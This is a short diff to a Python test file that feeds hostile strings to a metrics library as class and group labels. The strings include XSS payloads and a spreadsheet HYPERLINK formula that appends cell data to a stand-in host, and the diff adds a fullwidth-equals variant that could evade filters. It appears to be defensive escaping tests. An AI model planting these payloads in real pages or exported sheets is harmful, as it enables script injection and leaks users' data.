@@ -13,6 +13,7 @@ HOSTILE_CLASSES = (
     f'<img src=x onerror="{_RUN}">',
     f"</script><script>{_RUN}</script>",
     '=HYPERLINK("https://fedgauge.invalid/?"&A1)',
+    "\uff1dHYPERLINK(1)",
 )
 HOSTILE_GROUPS = (
     f"\"'><svg onload='{_RUN}'>",
@@ -56,8 +57,9 @@ def _joined():
 
 def _hostile(seed):
     rng, _, _ = _rows(seed)
-    labels = rng.integers(0, 3, 400)
-    scores = np.exp(rng.normal(size=(400, 3)) + 1.5 * np.eye(3)[labels])
+    classes = len(HOSTILE_CLASSES)
+    labels = rng.integers(0, classes, 400)
+    scores = np.exp(rng.normal(size=(400, classes)) + 1.5 * np.eye(classes)[labels])
     scores /= scores.sum(axis=1, keepdims=True)
     group = rng.choice(HOSTILE_GROUPS, 400)
     return fg.Examples(np.array(HOSTILE_CLASSES)[labels], scores, group=group)
